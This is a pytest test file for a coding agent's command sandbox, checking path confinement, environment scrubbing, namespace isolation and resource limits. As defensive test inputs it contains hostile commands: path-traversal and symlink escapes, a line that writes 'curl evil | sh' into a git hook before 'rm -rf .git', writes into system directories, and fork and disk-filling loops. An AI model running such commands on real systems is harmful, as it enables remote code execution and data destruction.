"""The sandbox: path confinement, the scrubbed environment, limits, and the isolation it reports (probed, not assumed)."""

import os
import socket
import sys
import uuid

import pytest

from nanocode.agents import cgroups, jail
from nanocode.agents.sandbox import Sandbox, SandboxPathError
from nanocode.core.errors import ConfigError


@pytest.fixture
def sandbox(tmp_path):
    root = tmp_path / "ws"
    (root / "src").mkdir(parents=True)
    (root / "src" / "a.py").write_text("x = 1\n")
    with Sandbox(root, timeout_s=10) as sb:
        yield sb


# -- paths ----------------------------------------------------------------------------------------------------------
def test_resolve_inside(sandbox):
    root = sandbox.root
    assert sandbox.resolve("src/a.py") == root / "src" / "a.py"
    assert sandbox.resolve("./src/../src/a.py") == root / "src" / "a.py"
    assert sandbox.resolve(".") == root
    assert sandbox.resolve(str(root / "src")) == root / "src"  # absolute but inside
    assert sandbox.resolve("new/dir/file.txt") == root / "new" / "dir" / "file.txt"  # need not exist


@pytest.mark.parametrize(
    "path",
    ["../outside.txt", "../../etc/passwd", "src/../../x", "/etc/passwd", "/", "..", "src/" + "../" * 20 + "etc"],
)
def test_resolve_rejects_escapes(sandbox, path):
    with pytest.raises(SandboxPathError, match="outside the workspace"):
        sandbox.resolve(path)


def test_resolve_rejects_symlinks_leaving_the_root(sandbox, tmp_path):
    (tmp_path / "secret.txt").write_text("s")
    os.symlink("/", sandbox.root / "rootlink")
    os.symlink(tmp_path / "secret.txt", sandbox.root / "src" / "secret_link")
    os.symlink("../..", sandbox.root / "src" / "up")
    for path in ("rootlink", "rootlink/etc/passwd", "src/secret_link", "src/up/secret.txt"):
        with pytest.raises(SandboxPathError, match="outside the workspace"):
            sandbox.resolve(path)
    os.symlink("a.py", sandbox.root / "src" / "inner")  # a symlink that stays inside is fine
    assert sandbox.resolve("src/inner") == sandbox.root / "src" / "a.py"


def test_resolve_rejects_nul_and_empty(sandbox):
    with pytest.raises(SandboxPathError, match="NUL"):
        sandbox.resolve("src/a.py\x00.txt")
    with pytest.raises(SandboxPathError, match="empty path"):
        sandbox.resolve("  ")


def test_bad_roots(tmp_path):
    with pytest.raises(ConfigError, match="not a directory"):
        Sandbox(tmp_path / "missing")
    with pytest.raises(ConfigError, match="cannot be '/'"):
        Sandbox("/")


# -- environment ----------------------------------------------------------------------------------------------------
def test_environment_is_scrubbed(sandbox, monkeypatch):
    monkeypatch.setenv("NANOCODE_TEST_SECRET", "hunter2")
    r = sandbox.run("env")
    assert r.exit_code == 0
    env = dict(line.split("=", 1) for line in r.output.splitlines() if "=" in line)
    assert "NANOCODE_TEST_SECRET" not in env and "hunter2" not in r.output
    assert env["HOME"] == str(sandbox.home) and env["HOME"] != os.path.expanduser("~")
    assert env["TMPDIR"].startswith(env["HOME"])
    assert sandbox.run("cd ~ && pwd").output.strip() == str(sandbox.home)


def test_extra_env_is_passed(tmp_path):
    with Sandbox(tmp_path, env={"CHOSEN": "yes"}) as sb:
        assert sb.run("echo $CHOSEN").output == "yes\n"


def test_home_is_removed_on_close(tmp_path):
    sb = Sandbox(tmp_path)
    home = sb.home
    assert home.is_dir()
    sb.close()
    assert not home.exists()


def test_python_is_on_path(sandbox):
    r = sandbox.run("python -c 'print(6 * 7)'")
    assert (r.exit_code, r.output) == (0, "42\n")


# -- running --------------------------------------------------------------------------------------------------------
def test_run_merges_output_and_reports_exit_code(sandbox):
    r = sandbox.run("echo a; echo b >&2; exit 5")
    assert (r.output, r.exit_code, r.stopped) == ("a\nb\n", 5, None)
    assert sandbox.run("kill -9 $$").exit_code == 137  # death by signal reads like a shell shows it


def test_background_processes_do_not_outlive_the_command(sandbox):
    sleep = _unique_sleep()
    r = sandbox.run(f"{sleep} & echo $! > pid.txt; echo started")
    assert (r.output, r.exit_code, r.stopped) == ("started\n", 0, None)  # it did not wait for the sleep (timeout 10 s)
    assert not _sleepers(sleep)


def test_command_closing_its_output_still_runs_to_the_end(sandbox):
    r = sandbox.run("exec >/dev/null 2>&1; sleep 0.3; touch done.txt")
    assert r.exit_code == 0 and (sandbox.root / "done.txt").exists()


def test_nul_in_command_is_refused(sandbox):
    r = sandbox.run("echo a\x00b")
    assert r.exit_code is None and r.stop_detail == "command contains a NUL byte"


def test_isolation_report_matches_reality(sandbox):
    iso = sandbox.isolation
    print("\nisolation:", iso.describe())
    # every claim is checked against what a command actually experiences
    if iso.network_removed:
        assert "unreachable" in sandbox.run(_CONNECT).output.lower()
    if iso.pid_namespace:
        visible = [p for p in sandbox.run("ls /proc").output.split() if p.isdigit()]
        assert str(os.getpid()) not in visible and len(visible) < 10  # only the command's own processes
    if iso.readonly_outside:  # with a private root the write may land in its scratch tmpfs, never on the host
        r = sandbox.run(f"touch {sandbox.root.parent}/escaped.txt")
        assert (r.exit_code != 0 or iso.private_root) and not (sandbox.root.parent / "escaped.txt").exists()
    if iso.private_root:
        assert sandbox.run("ls /root /home 2>&1; ls -A ~").output.split()[-1] == "tmp"
    if iso.capabilities_dropped:
        assert "CapEff:\t0000000000000000" in sandbox.run("grep CapEff /proc/self/status").output


def test_network_true_keeps_the_network(tmp_path):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    port = server.getsockname()[1]
    try:
        with Sandbox(tmp_path, network=True, timeout_s=10) as sb:
            assert not sb.isolation.network_removed
            r = sb.run(f'python -c \'import socket; socket.create_connection(("127.0.0.1", {port})); print("ok")\'')
            assert r.output == "ok\n"
    finally:
        server.close()


def test_without_namespaces_commands_need_the_opt_in(tmp_path):
    """A host that cannot isolate (isolate=False stands for it) refuses commands, in one line, unless opted in."""
    with Sandbox(tmp_path, isolate=False) as sb:
        r = sb.run("touch ran.txt")
        assert r.stopped == "refused" and r.exit_code is None and not (tmp_path / "ran.txt").exists()
        assert "allow_unisolated=True" in r.stop_detail and "\n" not in r.stop_detail
    with Sandbox(tmp_path, isolate=False, allow_unisolated=True) as sb:
        assert sb.run("touch ran.txt").exit_code == 0 and (tmp_path / "ran.txt").exists()


def test_the_opt_in_can_stand_in_the_environment(tmp_path, monkeypatch):
    """NANOCODE_ALLOW_UNISOLATED=1 is the user's standing opt-in (eval and rl build their sandboxes deep inside);
    an explicit allow_unisolated=False still wins."""
    monkeypatch.setenv("NANOCODE_ALLOW_UNISOLATED", "1")
    with Sandbox(tmp_path, isolate=False) as sb:
        assert sb.run("touch ran.txt").exit_code == 0
    with Sandbox(tmp_path, isolate=False, allow_unisolated=False) as sb:
        assert sb.run("true").stopped == "refused"


def test_without_namespaces_limits_still_hold(tmp_path):
    """isolate=False (what a machine without unshare gets): timeout, output bound and cleanup still work."""
    with Sandbox(tmp_path, isolate=False, allow_unisolated=True, timeout_s=1, max_output_bytes=1000) as sb:
        assert not sb.isolation.network_removed and not sb.isolation.pid_namespace
        sleep = _unique_sleep()
        r = sb.run(f"{sleep} & {sleep}")
        assert r.stopped == "timeout" and r.exit_code is None
        assert not _sleepers(sleep)
        r = sb.run("yes")
        assert r.stopped == "output" and len(r.output) == 1000 and r.truncated
        assert sb.run("echo $HOME").output == f"{sb.home}\n"


_CONNECT = "python -c 'import socket; socket.create_connection((\"127.0.0.1\", 9))' 2>&1 | tail -1"


def _unique_sleep() -> str:
    """A sleep command line no other test run on this machine uses (_sleepers scans every process on the host)."""
    return f"sleep 300.{uuid.uuid4().int % 10**9:09d}"


def _sleepers(cmdline: str) -> list[int]:
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as f:
                    if f.read().replace(b"\x00", b" ").strip() == cmdline.encode():
                        found.append(int(name))
            except OSError:
                continue
    return found


# -- the private root and whole-command limits (each where this host provides it) -----------------------------------
def _needs(sandbox: Sandbox, feature: str) -> None:
    if not getattr(sandbox.isolation, feature):
        pytest.skip(f"this host does not give commands {feature}: {sandbox.isolation.describe()}")


def test_private_root_holds_only_the_workspace_and_read_only_system_dirs(sandbox, tmp_path):
    _needs(sandbox, "private_root")
    secret = tmp_path / "elsewhere" / "token.txt"
    secret.parent.mkdir()
    secret.write_text("tok-123\n")
    r = sandbox.run(f"cat {secret} 2>&1; ls /; ls /dev")
    assert "tok-123" not in r.output and "No such file" in r.output
    listed = set(r.output.split()[r.output.split().index("directory") + 1 :])
    roots = {"bin", "dev", "etc", "lib", "lib32", "lib64", "libx32", "proc", "run", "sbin", "tmp", "usr"}
    prefixes = {p.split("/")[1] for p in (str(sandbox.root), sys.prefix, sys.base_prefix)}  # where they live
    devices = {"fd", "full", "null", "random", "shm", "stderr", "stdin", "stdout", "tty", "urandom", "zero"}
    assert not listed - roots - prefixes - devices, listed
    # system dirs and the Python prefix are there but read-only; python and pytest work in the workspace
    for target in ("/usr/pwned", f"{sys.prefix}/pwned", "/etc/pwned"):
        r = sandbox.run(f"touch {target}")
        assert r.exit_code != 0 and not os.path.exists(target)
    (sandbox.root / "test_x.py").write_text("def test_x():\n    assert 6 * 7 == 42\n")
    r = sandbox.run("python -m pytest -q -p no:cacheprovider test_x.py")
    assert r.exit_code == 0 and "1 passed" in r.output


def test_fresh_scratch_space_per_command_and_bounded(tmp_path):
    with Sandbox(tmp_path, scratch_bytes=8 * 1024**2, timeout_s=10) as sb:
        _needs(sb, "private_root")
        assert sb.run("echo x > /tmp/a; echo y > ~/b; ls /tmp/a ~/b").exit_code == 0
        assert sb.run("ls /tmp/a ~/b").exit_code != 0  # gone: each command gets fresh ones
        r = sb.run("head -c 50000000 /dev/zero > /tmp/big")
        assert r.exit_code != 0 and "No space left" in r.output


def test_git_dir_is_read_only(tmp_path):
    hooks = tmp_path / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (tmp_path / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    with Sandbox(tmp_path, timeout_s=10) as sb:
        _needs(sb, "private_root")
        r = sb.run("echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; rm -rf .git")
        assert r.exit_code != 0 and "Read-only file system" in r.output
        assert not (hooks / "pre-commit").exists() and (tmp_path / ".git" / "HEAD").exists()
        assert sb.run("echo fine > a.txt && mkdir -p src && echo ok > src/b.py").exit_code == 0
        assert (tmp_path / "src" / "b.py").read_text() == "ok\n"


def test_memory_limit_covers_all_processes_together(tmp_path):
    """4 processes of 150 MiB each, each under the per-process limit, against 256 MiB for the whole command."""
    limit = 256 * 1024**2
    with Sandbox(tmp_path, memory_bytes=limit, timeout_s=20) as sb:
        _needs(sb, "memory_limit")
        hold = "b = bytearray(150 * 2**20); import time; time.sleep(2); print('held')"
        r = sb.run(f'for i in 1 2 3 4; do python -c "{hold}" & done; wait')
        assert r.output.splitlines().count("held") < 4 and r.oom_kills >= 1
        assert r.peak_memory_bytes is not None and r.peak_memory_bytes <= limit


def test_process_limit_counts_all_processes(tmp_path):
    if not cgroups.support().pids:
        pytest.skip("no pids control group here")
    with Sandbox(tmp_path, max_processes=20, timeout_s=20) as sb:
        code = (
            "import os, time\nn = 0\ntry:\n    while n < 100:\n        if os.fork() == 0:\n"
            "            time.sleep(2)\n            os._exit(0)\n        n += 1\nexcept OSError:\n    pass\nprint(n)"
        )
        r = sb.run(f"python -c '{code}'")
        assert r.output.strip().isdigit() and int(r.output) < 20


def test_bytes_written_are_bounded_for_the_whole_command(tmp_path):
    with Sandbox(tmp_path, max_write_bytes=20 * 1024**2, max_file_bytes=8 * 1024**2, timeout_s=20) as sb:
        r = sb.run("for i in $(seq 40); do head -c 5000000 /dev/zero > f$i.bin; done")
        written = sum(p.stat().st_size for p in tmp_path.glob("f*.bin"))
        assert r.stopped == "disk" and "wrote more than" in r.stop_detail
        assert written < 40 * 5_000_000 // 2  # stopped long before the end


def test_jail_refuses_a_malformed_command_line(capsys):
    for words in (["/stage"], ["/stage", "/ws", "bind", "/usr", "--"], ["/stage", "/ws", "chmod", "/x", "--", "ls"]):
        assert jail.main(words) == 125  # before any mount: nothing to undo
        err = capsys.readouterr().err
        assert err.startswith("sandbox: cannot build the command's filesystem:") and err.count("\n") == 1
    assert jail.parse(["/s", "/w", "bind", "/usr", "/usr", "ro", "dir", "/x", "--", "/bin/true"]) == (
        "/s",
        "/w",
        [["bind", "/usr", "/usr", "ro"], ["dir", "/x"]],
        ["/bin/true"],
    )
